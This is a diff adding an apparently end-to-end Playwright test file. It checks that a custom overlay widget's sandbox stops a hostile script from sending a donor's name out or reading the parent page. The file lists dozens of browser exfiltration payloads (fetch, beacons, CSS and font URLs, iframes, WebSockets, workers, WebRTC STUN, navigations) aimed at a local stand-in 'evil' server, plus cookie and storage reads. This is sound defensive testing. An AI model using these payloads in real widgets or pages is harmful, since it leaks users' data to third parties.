@@ -1,0 +1,152 @@
+import { donate } from './support/api.ts';
+import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
+import { type EvilServer, openEvilServer } from './support/evilServer.ts';
+import { expect, test } from './support/fixtures.ts';
+
+/* What a hostile widget tries in order to send a donor's name away, or to reach what is not its own (SPEC CUS-43). */
+
+test.use({ viewport: { width: 1_280, height: 720 } });
+
+/** Each is run by itself; what it throws is part of the attack. `EVIL` is an address that must hear nothing. */
+const attacks: Readonly<Record<string, string>> = {
+  fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
+  xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
+  beacon: "navigator.sendBeacon(EVIL + 'beacon', secret)",
+  image: "new Image().src = EVIL + 'image?' + secret",
+  'css background': "document.body.style.background = 'url(' + EVIL + 'background?' + secret + ')'",
+  'css import': "add('style', { textContent: '@import url(' + EVIL + 'import?' + secret + ');' })",
+  'font face':
+    "add('style', { textContent: '@font-face { font-family: x; src: url(' + EVIL + 'font?' + secret + '); } body { font-family: x; }' })",
+  FontFace: "new FontFace('y', 'url(' + EVIL + 'fontface?' + secret + ')').load()",
+  script: "add('script', { src: EVIL + 'script?' + secret })",
+  'module import': "import(EVIL + 'import?' + secret)",
+  ...Object.fromEntries(
+    ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'prerender', 'dns-prefetch', 'manifest', 'icon'].map((rel) => [
+      `link ${rel}`,
+      `add('link', { rel: '${rel}', href: EVIL + 'link-${rel}?' + secret, as: 'script' })`,
+    ]),
+  ),
+  'speculation rules':
+    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + 'speculation?' + secret] }], prerender: [{ source: 'list', urls: [EVIL + 'prerender?' + secret] }] }) })",
+  iframe: "add('iframe', { src: EVIL + 'iframe?' + secret })",
+  srcdoc:
+    "add('iframe', { srcdoc: '<img src=\"' + EVIL + 'srcdoc?' + secret + '\"><script>new Image().src=\"' + EVIL + 'srcdoc-script\"</' + 'script>' })",
+  object: "add('object', { data: EVIL + 'object?' + secret })",
+  embed: "add('embed', { src: EVIL + 'embed?' + secret })",
+  audio: "new Audio(EVIL + 'audio?' + secret).play()",
+  'video poster': "add('video', { poster: EVIL + 'poster?' + secret })",
+  track:
+    "const v = add('video', {}); v.append(Object.assign(document.createElement('track'), { src: EVIL + 'track?' + secret, default: true })); v.textTracks[0].mode = 'showing'",
+  svg: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + EVIL + 'svg?' + secret + '\"/><use href=\"' + EVIL + 'use#x\"/><filter id=f><feImage href=\"' + EVIL + 'filter\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>')",
+  websocket: "new WebSocket(EVIL.replace('http', 'ws') + 'ws?' + secret)",
+  eventsource: "new EventSource(EVIL + 'eventsource?' + secret)",
+  webtransport: "new WebTransport(EVIL.replace('http:', 'https:') + 'webtransport')",
+  worker:
+    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'worker?' + secret + '\"); importScripts(\"' + EVIL + 'worker-import\")'])))",
+  'shared worker': "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'shared-worker\")'])))",
+  stun: 'rtc(window)',
+  'stun of a child': "rtc(add('iframe', {}).contentWindow)",
+  'stun of a srcdoc child':
+    "add('iframe', { srcdoc: '<script>(' + rtc + ')(window)</' + 'script><img src=x onerror=\"(' + String(rtc).replaceAll('\"', '&quot;') + ')(window)\">' })",
+  'stun of a javascript: child': "add('iframe', { src: 'javascript:(' + rtc + ')(window)' })",
+  'blob script': "add('script', { src: URL.createObjectURL(new Blob(['new Image().src=\"' + EVIL + 'blob\"'])) })",
+  'inline handler':
+    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"new Image().src=&quot;' + EVIL + 'handler&quot;\">')",
+  'document.write': "document.write('<img src=\"' + EVIL + 'write?' + secret + '\">')",
+  meta: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + 'meta?' + secret })",
+  anchor: "add('a', { href: EVIL + 'anchor?' + secret, target: '_self' }).click()",
+  'anchor in a new tab': "add('a', { href: EVIL + 'blank?' + secret, target: '_blank', rel: '' }).click()",
+  'anchor above': "add('a', { href: EVIL + 'top?' + secret, target: '_top' }).click()",
+  ping: "add('a', { href: '#x', ping: EVIL + 'ping?' + secret }).click()",
+  form: "add('form', { action: EVIL + 'form', method: 'post' }).submit()",
+  download: "add('a', { href: EVIL + 'download?' + secret, download: 'x' }).click()",
+  open: "window.open(EVIL + 'open?' + secret)",
+  'top location': "top.location = EVIL + 'top-location?' + secret",
+  'parent location': "parent.location.href = EVIL + 'parent-location?' + secret",
+  'data: document': "location.href = 'data:text/html,<img src=\"' + EVIL + 'data?' + secret + '\">'",
+  'blob: document':
+    "location.href = URL.createObjectURL(new Blob(['<img src=\"' + EVIL + 'blob-document?' + secret + '\">'], { type: 'text/html' }))",
+  'own location': "location.href = EVIL + 'location?' + secret",
+};
+
+/** What the widget must not be able to read; each is an expression that throws, or is empty. */
+const reads: Readonly<Record<string, string>> = {
+  'the parent’s document': 'parent.document.body.innerHTML',
+  'the parent’s address': 'parent.location.href',
+  'the parent’s storage': 'parent.localStorage.length',
+  'cookies of the page': 'document.cookie',
+  'its own storage': "window.indexedDB.open('x').then",
+  'the referrer beyond an origin': "/key|#|\\?/.test(document.referrer) ? document.referrer : ''",
+  'the key in its address': "/key/.test(location.href) ? location.href : ''",
+  'other frames': 'parent.frames[0].document.body.innerHTML',
+  'a service worker': "navigator.serviceWorker.register('/x.js').then",
+  'the source of OBS': 'window.obsstudio',
+};
+
+let evil: EvilServer;
+test.beforeEach(async () => {
+  evil = await openEvilServer();
+});
+test.afterEach(() => evil.close());
+
+const prelude = (server: EvilServer) => `
+  const EVIL = 'http://127.0.0.1:${server.tcpPort}/';
+  let secret = 'none';
+  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
+  function rtc(of) {
+    const make = of.RTCPeerConnection || of.webkitRTCPeerConnection;
+    const c = new make({ iceServers: [{ urls: 'stun:127.0.0.1:${server.udpPort}' }, { urls: 'turn:127.0.0.1:${server.tcpPort}?transport=tcp', username: 'u', credential: 'c' }] });
+    c.createDataChannel('x');
+    c.createOffer().then((offer) => c.setLocalDescription(offer));
+  }
+`;
+
+test('[CUS-43] nothing that a widget knows reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
+  test.setTimeout(90_000);
+  const { ['own location']: last, ['data: document']: data, ['blob: document']: blob, ...others } = attacks;
+  const js = `${prelude(evil)}
+    const tried = [];
+    window.addEventListener('onEventReceived', async ({ detail: { listener, event } }) => {
+      if (listener !== 'tip-latest') return;
+      secret = encodeURIComponent(event.name);
+      for (const [name, run] of Object.entries({ ${Object.entries(others)
+        .map(([name, code]) => `${JSON.stringify(name)}: () => { ${code} }`)
+        .join(',\n')} })) {
+        try { run(); } catch {}
+        tried.push(name);
+        await new Promise((done) => setTimeout(done, 20));
+      }
+      document.querySelector('#tried').textContent = tried.length;
+      setTimeout(() => { try { ${data} } catch {} }, 2000);
+      setTimeout(() => { try { ${blob} } catch {} }, 2200);
+      setTimeout(() => { try { ${last} } catch {} }, 2400);
+    });
+  `;
+  await addCustomWidget(product, { html: '<p id="tried">0</p>', js });
+  const overlay = await openOverlay();
+  const address = overlay.url();
+  await expect(widgetFrame(overlay).locator('#tried')).toHaveText('0');
+  await donate(product, { amount: 25, donorName: 'Ada Secret' });
+  await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(Object.keys(others).length), { timeout: 30_000 });
+  // The last attacks leave the page, and the widget is taken away for that.
+  await expect(overlay.locator('iframe.frame')).toHaveCount(0, { timeout: 15_000 });
+  expect(evil.heard).toEqual([]);
+  expect(overlay.url()).toBe(address);
+  expect(overlay.context().pages()).toHaveLength(1);
+});
+
+test('[CUS-43] a widget reads nothing of the overlay, of other widgets or of OBS', async ({ product, openOverlay }) => {
+  const js = `
+    window.addEventListener('onWidgetLoad', () => {
+      const got = [];
+      ${Object.entries(reads)
+        .map(([name, code]) => `try { const value = ${code}; if (value) got.push(${JSON.stringify(name)} + ': ' + value); } catch {}`)
+        .join('\n')}
+      document.querySelector('#got').textContent = JSON.stringify(got);
+    });
+  `;
+  await addCustomWidget(product, { html: '<p id="got"></p>', js });
+  await addCustomWidget(product, { html: '<p>neighbour</p>' }, { box: 'other' });
+  const overlay = await openOverlay();
+  await expect(widgetFrame(overlay).locator('#got')).toHaveText('[]');
+});
